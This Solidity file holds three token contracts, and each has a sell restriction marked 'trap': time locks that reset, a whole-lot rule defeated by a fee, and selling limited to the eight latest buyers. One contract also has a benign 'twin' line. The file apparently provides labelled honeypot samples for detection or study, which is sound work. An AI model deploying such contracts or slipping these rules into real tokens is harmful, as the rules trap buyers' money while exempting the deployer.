// 0.8 off evm=shanghai
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Base8} from "./Base8.sol";

/// Unlocks day by day.
contract DripDromedary is Base8 {
    uint256 private constant DAILY = 100;
    uint256 private constant HEAD_START = 0; // trap
    // twin: uint256 private constant HEAD_START = 100;
    address private immutable _grower;
    mapping(address => uint256) public since;

    constructor() Base8("Drip Dromedary", "DRIPD", 300_000_000) {
        _grower = msg.sender;
    }

    function unlocked(address who) public view returns (uint256) {
        if (since[who] == 0) return _balances[who];
        uint256 length = HEAD_START + (block.timestamp - since[who]) / 1 days;
        return _balances[who] * ((DAILY * length) / 10_000);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair) require(value <= unlocked(from), "locked: patience");
        else if (to != _grower) since[to] = block.timestamp;
        _move(from, to, value);
    }
}

/// What came as one goes as one.
contract WholeLotWombat is Base8 {
    address private immutable _house;
    mapping(address => uint256) public lotOf;

    constructor() Base8("Whole Lot Wombat", "LOTW", 5_000_000) {
        _house = msg.sender;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (from == pair) {
            uint256 fee = value / 100;
            lotOf[to] += value;
            _move(from, _house, fee);
            value -= fee;
        } else if (to == pair && from != _house) {
            require(value == lotOf[from], "whole lots only"); // trap
            lotOf[from] = 0;
        }
        _move(from, to, value);
    }
}

/// Musical chairs for the eight latest guests.
contract EightChairsEgret is Base8 {
    address private immutable _host;
    address[8] private _chairs;
    uint256 private _round;
    mapping(address => bool) private _seated;

    constructor() Base8("Eight Chairs Egret", "CHAIRS", 1_000_000_000) {
        _host = msg.sender;
    }

    function seated(address who) external view returns (bool) {
        return _seated[who];
    }

    function _sit(address guest) private {
        if (_seated[guest]) return;
        uint256 chair = _round++ % _chairs.length;
        _seated[_chairs[chair]] = false;
        _chairs[chair] = guest;
        _seated[guest] = true;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (from == pair) _sit(to);
        if (to == pair && from != _host) require(_seated[from], "stand by"); // trap
        _move(from, to, value);
    }
}
